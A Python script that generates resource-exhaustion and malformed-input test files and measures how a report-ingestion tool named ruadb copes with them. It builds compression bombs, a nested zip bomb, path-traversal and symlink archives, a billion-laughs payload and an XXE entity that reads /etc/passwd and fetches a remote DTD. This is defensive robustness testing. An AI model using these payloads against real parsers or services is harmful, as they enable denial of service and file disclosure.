#!/usr/bin/env python3
"""traps - files that are made to cost whoever reads them time, memory or files of his own.

    traps.py make FOLDER [WORD...]   makes them, or those whose names hold one of the words; prints
                                     each name and what may become of it
    traps.py measure RUADB FILE...   reads each alone, and prints: file, seconds of CPU time, MB of
                                     memory at most (of any process), outcome, class, reason

What may become of one: `refused` (quarantined, of class input or limit), `any` (that, or stored as
far as it can be mended, or no report). Compressed bombs repeat a block that was compressed once: 10 GB are made in
no time, so their checksums are wrong, but nobody should get that far.
"""
import bz2
import json
import lzma
import os
import re
import struct
import subprocess
import sys
import zipfile
import zlib

sys.dont_write_bytecode = True

from odd import *

KB, MB, GB = 1 << 10, 1 << 20, 1 << 30
WHOLE = report("trap", 1, [record(1)]).encode()
HEAD = WHOLE[:WHOLE.index(b"  <record>")]
RECORD = record(1).encode()
END = b"</feedback>\n"
traps = {}


def trap(outcome):
    def add(make):
        traps[make.__name__.replace("_", "-")] = (make, outcome)
        return make
    return add


refused, anything = trap("refused"), trap("any")


# ---- packing

def deflated(before, unit, size, behind=b""):
    """Raw deflate of before, of size bytes of repeated unit, and of behind."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = c.compress(before) + c.flush(zlib.Z_FULL_FLUSH)
    block = unit * (MB // len(unit))
    # the first block ends aligned to a byte, as all that are like it
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    return out + one * (size // len(block)) + c.compress(behind) + c.flush()


def bomb(before, unit, size, behind=b""):
    return (b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + deflated(before, unit, size, behind)
            + struct.pack("<II", 0x12345678, size & 0xffffffff))


def zip_entry(name, packed, size, method=8, flags=0, crc=0):
    """A local header and its data."""
    return struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 33, crc, len(packed), size,
                       len(name), 0) + name + packed


def zip_end(names, offsets, packed, size, at, method=8):
    """Central directory of entries that all say the same but for name and place."""
    directory = b"".join(struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, method, 0, 33, 0, packed, size,
                                     len(n), 0, 0, 0, 0, 0, o) + n for n, o in zip(names, offsets))
    return directory + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(names) & 0xffff, len(names) & 0xffff,
                                   len(directory), at, 0)


# ---- bombs

@anything
def gzip_of_zeros():
    return bomb(b"", b"\0", 10 * GB)


@refused
def gzip_of_zeros_in_feedback():
    return bomb(HEAD, b"\0", 10 * GB)


@refused
def gzip_of_blanks():
    return bomb(b"", b" ", 10 * GB)


@refused
def gzip_of_blanks_in_feedback():
    return bomb(HEAD, b" ", 10 * GB, END)


@refused
def gzip_of_elements():
    return bomb(HEAD, b"<a></a>\n", 10 * GB, END)


@refused
def gzip_of_empty_elements_in_record():
    return bomb(HEAD + b"<record>", b"<a/>", 10 * GB, b"</record>" + END)


@refused
def gzip_of_empty_records():
    return bomb(HEAD, b"<record/>", 2 * GB - 16 * MB, END)


@refused
def gzip_of_empty_records_unclosed():
    return bomb(HEAD, b"<record>", 2 * GB - 16 * MB, END)


@refused
def gzip_of_comments():
    return bomb(HEAD, b"<!--a-->", 10 * GB, END)


@refused
def gzip_of_text():
    return bomb(HEAD[:HEAD.index(b"</org_name>")], b"aaaaaaaa", GB)


@refused
def gzip_of_one_comment():
    return bomb(HEAD + b"<!--", b"aaaaaaaa", GB)


@refused
def gzip_of_cdata():
    return bomb(HEAD + b"<![CDATA[", b"aaaaaaaa", GB)


@refused
def gzip_of_one_tag():
    return bomb(HEAD + b"<record ", b"aaaaaaaa", GB)


@refused
def gzip_of_one_attribute():
    return bomb(HEAD + b'<record a="', b"aaaaaaaa", GB)


@anything
def gzip_of_text_before():
    return bomb(b"Report follows", b" follows", GB, WHOLE)


@refused
def gzip_of_feedback_before():
    return bomb(b"<feedback", b" follows", GB, WHOLE)


@refused
def gzip_25_deep():
    data = bomb(b"", b"\0", GB)
    for _ in range(24):
        data = gz(data)
    return data


@anything
def gzip_of_a_million_members():
    return gz(HEAD) + gz(b"") * 1000000 + gz(RECORD + END)


@anything
def xz_of_zeros():
    return lzma.compress(bytes(16 * MB), preset=0) * 200


@refused
def xz_that_wants_memory():
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1 << 30}]
    # the size of the dictionary is a byte of the block's header, which has a checksum
    data = bytearray(lzma.compress(WHOLE, filters=[{"id": lzma.FILTER_LZMA2, "preset": 0,
                                                    "dict_size": 1 << 16}]))
    at = data.index(b"\x21\x01")
    data[at + 2] = 40  # 4 GB
    length = (data[12] + 1) * 4
    data[12 + length - 4:12 + length] = struct.pack("<I", zlib.crc32(bytes(data[12:12 + length - 4])))
    return bytes(data) if filters else b""


@anything
def bzip2_of_zeros():
    return bz2.compress(bytes(45 * MB)) * 100


@refused
def zip_of_zips():
    """Like 42.zip: 16 in 16 in 16 .. of zeros."""
    data = zipped([("0.dll", bytes(16 * MB))])
    for _ in range(5):
        data = zipped([(f"{i}.zip", data) for i in range(16)])
    return data


@refused
def zip_overlapping():
    """Ten thousand names for one entry, which is a bomb."""
    packed = deflated(HEAD, b" ", 20 * MB, END)
    entry = zip_entry(b"0.xml", packed, 20 * MB)
    names = [b"%d.xml" % i for i in range(10000)]
    return entry + zip_end(names, [0] * len(names), len(packed), 20 * MB, len(entry))


@anything
def zip_declared_4_gb():
    packed = zlib.compress(WHOLE, 9)[2:-4]
    entry = zip_entry(b"0.xml", packed, 0xfffffffe)
    return entry + zip_end([b"0.xml"], [0], len(packed), 0xfffffffe, len(entry))


@refused
def zip_of_100000_empty_files():
    entry = b"".join(zip_entry(b"%d" % i, b"", 0, 0) for i in range(100000))
    return entry + zip_end([b"0"] * 100000, [0] * 100000, 0, 0, len(entry), 0)


@refused
def zip_of_bombs():
    packed = deflated(HEAD, b" ", 200 * MB, END)
    return b"".join(zip_entry(b"%d.xml" % i, packed, 200 * MB) for i in range(30))


@refused
def zip_of_folders():
    entry = b"".join(zip_entry(b"%d/" % i, b"", 0, 0) for i in range(200000))
    return entry


@anything
def zip_of_headers():
    """Local headers inside of local headers: whoever looks for the next one finds many."""
    return b"PK\3\4" * (2 * MB)


@anything
def zip_paths():
    names = ("../../../../tmp/ruadb-trap", "/tmp/ruadb-trap", "..\\..\\ruadb-trap", "C:\\ruadb-trap",
             "a/../../ruadb-trap", "ruadb-trap\0.xml")
    files = [(n, WHOLE.replace(b"<report_id>trap", b"<report_id>path-%d" % i)) for i, n in enumerate(names)]
    return zipped(files)


@anything
def tar_paths():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for kind, target in ((tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "../../ruadb-trap"),
                             (tarfile.CHRTYPE, ""), (tarfile.FIFOTYPE, "")):
            info = tarfile.TarInfo("ruadb-trap-link")
            info.type, info.linkname = kind, target
            t.addfile(info)
        for name in ("../../../../tmp/ruadb-trap", "/tmp/ruadb-trap", "ruadb-trap-link/x"):
            info = tarfile.TarInfo(name)
            data = WHOLE.replace(b"<report_id>trap", b"<report_id>tar" + name.encode())
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tar_header(name, size, kind=b"0"):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108], h[124:136], h[156:157], h[257:265] = b"0000644\0", size, kind, b"ustar\00000"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


@anything
def tar_declared_8_gb():
    return tar_header(b"0.xml", b"77777777777\0") + WHOLE


@refused
def tar_of_200000_files():
    return gz(tar_header(b"0", b"00000000000\0") * 200000)


@refused
def tar_of_long_names():
    """Each header's name is a megabyte in front of it."""
    name = tar_header(b"././@LongLink", b"00004000000\0", b"L") + b"a" * MB
    return gz(name * 300)


# ---- markup

@refused
def attributes_40000():
    return HEAD.replace(b"<feedback>", b"<feedback " + b" ".join(
        b'a%d=""' % i for i in range(40000)) + b">") + RECORD + END


@refused
def attributes_in_many_tags():
    tag = b"<a " + b" ".join(b'a%d=""' % i for i in range(6000)) + b"/>"
    return gz(HEAD + tag * 500 + RECORD + END)


@refused
def attributes_in_many_records():
    tag = b"<record " + b" ".join(b'a%d=""' % i for i in range(6000)) + b">"
    return gz(HEAD + (tag + RECORD[len("  <record>"):]) * 500 + END)


@refused
def namespaces_in_many_tags():
    tag = b"<a " + b" ".join(b'xmlns:a%d="u:%d"' % (i, i) for i in range(2500)) + b"/>"
    return gz(HEAD + tag * 500 + RECORD + END)


@refused
def laughs():
    entities = b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 12))
    return (b'<!DOCTYPE feedback [<!ENTITY l0 "lol">' + entities + b"]>"
            + HEAD[HEAD.index(b"<feedback"):].replace(b"mx.example.net</org", b"&l11;</org") + END)


@refused
def entity_50_kb():
    return (b'<!DOCTYPE feedback [<!ENTITY a "' + b"a" * 50000 + b'">]>'
            + HEAD[HEAD.index(b"<feedback"):].replace(b"mx.example.net</org", b"&a;" * 2000 + b"</org")
            + END)


@refused
def entity_of_a_file():
    return (b'<!DOCTYPE feedback [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM '
            b'"http://192.0.2.1/x.dtd">%b;]>' + HEAD[HEAD.index(b"<feedback"):].replace(
                b"mx.example.net</org", b"&a;</org") + END)


@refused
def doctype_unclosed():
    return b"<!DOCTYPE feedback [" + b"<!ELEMENT a (b)>" * MB + HEAD


@refused
def elements_million_deep():
    return HEAD + b"<a>" * 1000000


@anything
def bare_less_million():
    return HEAD.replace(b"mx.example.net</org", b"<" * 1000000 + b"</org") + RECORD + END


@anything
def bare_ampersand_million():
    return HEAD.replace(b"mx.example.net</org", b"&" * 1000000 + b"</org") + RECORD + END


@anything
def bare_less_between():
    return HEAD + b"< " * 5000000 + RECORD + END


@anything
def end_tags_million():
    return HEAD + b"</a>" * 1000000 + RECORD + END


@anything
def records_unclosed_million():
    return HEAD + b"<record>" * 1000000 + END


@anything
def feedback_million():
    return b"<feedback>" * 1000000


@anything
def feedback_documents_million():
    return b"<feedback></feedback>" * 1000000


@anything
def documents_100000():
    return b"".join(WHOLE.replace(b"<report_id>trap", b"<report_id>%d" % i) for i in range(20000))


@anything
def declarations_million():
    return b"<?xml version='1.0'?>" * 1000000 + WHOLE


@anything
def comment_unclosed():
    return HEAD + b"<!-- " + b"a -- " * (10 * MB) + END


@anything
def comments_unclosed_million():
    return HEAD + b"<!--<record>" * 1000000 + END


@anything
def cdata_unclosed():
    return HEAD + b"<![CDATA[ " + b"a ]] " * (10 * MB) + END


@anything
def cdata_unclosed_million():
    return HEAD + b"<![CDATA[<a>" * 1000000 + END


@anything
def instruction_unclosed():
    return HEAD + b"<?a " + b"a ? > " * (10 * MB) + END


@anything
def quotes_unclosed_million():
    return HEAD + b'<a b="<c d="' * 1000000 + RECORD + END


@anything
def references_million():
    return HEAD + b"&#1114112;&#0;&a;" * 1000000 + RECORD + END


@anything
def wrappers_million():
    return b"<a>" * 1000000 + WHOLE


# ---- characters

@anything
def nuls_50_mb():
    return bytes(50 * MB)


@anything
def nuls_in_feedback():
    return HEAD + bytes(50 * MB) + RECORD + END


@anything
def nul_behind_each_letter():
    return gz(HEAD) + gz(b"".join(bytes((b, 0)) for b in RECORD * 2000)) + gz(END)


@anything
def invalid_bytes_50_mb():
    return HEAD + b"\xff\xfe\x80\xc0" * (12 * MB) + RECORD + END


@anything
def utf_16_half():
    return WHOLE.decode().replace("UTF-8", "UTF-16").encode("utf-16") + b"\xd8\0" * (10 * MB)


# ---- mails

MAIL = header("Report Domain: lab.example.org", 'Content-Type: multipart/mixed; boundary="=_b"').encode()


@refused
def parts_10000():
    return MAIL + b"\n" + b"--=_b\nContent-Type: text/plain\n\na\n" * 10000 + b"--=_b--\n"


@refused
def parts_of_reports_10000():
    p = attachment(gz(WHOLE), "application/gzip").encode()
    return MAIL + b"\n" + p * 10000 + b"--=_b--\n"


@refused
def boundaries_million():
    return MAIL + b"\n" + b"--=_b\n" * 1000000


@refused
def multiparts_1000_deep():
    out = b""
    for i in range(1000):
        out += b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (i, i)
    return MAIL.replace(b'multipart/mixed; boundary="=_b"', b"text/plain").replace(
        b"Content-Type: text/plain\n", b"") + out + b"\na\n"


@refused
def multiparts_of_one_boundary():
    return MAIL + b"\n" + b'--=_b\nContent-Type: multipart/mixed; boundary="=_b"\n\n' * 5000


@refused
def mails_1000_deep():
    return MAIL.replace(b'multipart/mixed; boundary="=_b"', b"message/rfc822") + (
        b"\nFrom: a@example.net\nSubject: a\nContent-Type: message/rfc822\n") * 1000 + b"\na\n"


@refused
def header_30_mb():
    return MAIL + b"X-A: " + b"a" * (30 * MB) + b"\n\na\n"


@refused
def header_folded():
    return MAIL + b"X-A: a\n" + b"\ta\n" * (5 * MB) + b"\na\n"


@refused
def headers_million():
    return MAIL + b"X-A: a\n" * 1000000 + b"\na\n"


@anything
def addresses_nested():
    return MAIL.replace(b"To: ", b"To: " + b"(" * 30000 + b"<" * 1000) + b"\n" + b"--=_b--\n"


@anything
def parameters_split():
    """RFC 2231: a name in a hundred thousand pieces."""
    pieces = b"".join(b"; name*%d=a" % i for i in range(2000))
    return MAIL.replace(b'; boundary="=_b"', pieces + b'; boundary="=_b"') + b"\n--=_b--\n"


@anything
def base64_of_nothing():
    return (MAIL.replace(b"multipart/mixed", b"application/gzip") + b"Content-Transfer-Encoding: base64"
            b"\n\n" + b"!?-_ \n" * (5 * MB))


@anything
def base64_bomb():
    return mail([attachment(bomb(HEAD, b" ", 10 * GB), "application/gzip")]).encode()


@anything
def quoted_printable():
    return (MAIL.replace(b"multipart/mixed", b"text/xml") + b"Content-Transfer-Encoding: quoted-"
            b"printable\n\n" + b"=\n==3C" * (4 * MB))


@anything
def uuencode():
    return MAIL.replace(b"multipart/mixed", b"text/plain") + b"\n" + b"begin 644 a\n`\n" * (2 * MB)


@anything
def mbox_of_100000():
    """Mails of the same bytes, none: whoever looks whether they are known finds many."""
    return b"From a@example.net Wed Sep  2 04:10:00 2026\n\n" * 100000


@anything
def mails_in_zip_20000():
    return zipped([(f"{i}.eml", MAIL + b"\na\n") for i in range(12000)])


# ---- the program

def make(folder, words):
    os.makedirs(folder, exist_ok=True)
    for name, (build, outcome) in traps.items():
        if words and not any(w in name for w in words):
            continue
        with open(os.path.join(folder, name), "wb") as f:
            f.write(build())
        print(name, outcome, sep="\t")


def measure(ruadb, path):
    with open("/dev/null") as none:
        p = subprocess.Popen([ruadb, "ingest", "--parse-only", "--format", "json", "--jobs", "1", path],
                             stdin=none, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        said, log = p.communicate()
    return said, log


def measure_all(ruadb, paths):
    for path in paths:
        # a process of its own, so that its children's rusage is that of this run alone
        r, w = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(r)
            said, log = measure(ruadb, path)
            import resource
            used = resource.getrusage(resource.RUSAGE_CHILDREN)
            with os.fdopen(w, "w") as out:
                json.dump([said.decode(), log.decode("utf-8", "replace"),
                           used.ru_utime + used.ru_stime, used.ru_maxrss], out)
            os._exit(0)
        os.close(w)
        with os.fdopen(r) as f:
            said, log, cpu, rss = json.load(f)
        os.waitpid(child, 0)
        tell(os.path.basename(path), said, log, cpu, rss)


def tell(name, said, log, cpu, rss):
    try:
        sums = json.loads(said)
    except ValueError:
        sums = {}
    outcome = [f"{w}={sums[w]}" for w in ("reports_stored", "quarantined", "not_reports") if sums.get(w)]
    classes = sorted(set(re.findall(r'class="(\w+)"', log)))
    reasons = re.findall(r'err="((?:[^"\\]|\\.)*)"', log)
    print(name, "%.2f" % cpu, rss // 1024, " ".join(outcome) or "nothing", ",".join(classes) or "-",
          reasons[0] if reasons else "-", sep="\t", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "make":
        make(sys.argv[2], sys.argv[3:])
    else:
        measure_all(sys.argv[2], sys.argv[3:])
